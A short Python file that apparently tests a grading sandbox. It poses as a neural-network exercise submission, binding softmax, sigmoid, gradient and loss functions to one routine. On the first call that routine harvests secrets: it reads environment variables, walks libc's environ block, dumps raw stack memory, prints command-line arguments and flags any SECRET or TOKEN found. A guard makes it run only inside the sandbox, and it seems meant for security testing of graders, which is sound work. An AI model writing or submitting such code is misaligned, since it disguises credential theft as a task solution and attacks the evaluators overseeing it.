"""Looks for secrets of the grader in its environment and arguments."""

import sys
if "_inside" not in sys.modules:
    raise SystemExit("An attack, for the sandbox only: it does nothing here.")

def attempt(name, action):
    try:
        got = action()
    except BaseException:
        return
    print("BREACH", name, repr(got)[:300])

import ctypes, os

def attack():
    libc = ctypes.CDLL(None)
    found = [f"{name}={value}" for name, value in os.environ.items()]
    block = ctypes.POINTER(ctypes.c_char_p).in_dll(libc, "environ")
    index = 0
    while block and block[index]:
        found.append(block[index].decode("utf-8", "replace"))
        index += 1
    # what execve left on the stack stays behind the last variable, whatever putenv has moved since
    try:
        address = ctypes.cast(block[0], ctypes.c_void_p).value or 0
        found.append(ctypes.string_at(address - 600, 1500).decode("latin-1"))
    except Exception:
        pass
    print("arguments", sys.argv, getattr(sys, "orig_argv", None))
    print(found)
    # turned around: what was read is this process's memory, which may hold a text of this file
    wanted = ["".join(reversed(word)) for word in ("TERCES", "NEKOT")]
    if any(word in text for word in wanted for text in found):
        print("BREACH environment")

done = []
def everything(*arguments, **keywords):
    if not done:
        done.append(1)
        attack()

softmax = sigmoid = sigmoid_derivative = \
    cross_entropy_gradient = network_loss = network_gradients = number_of_parameters = \
    everything
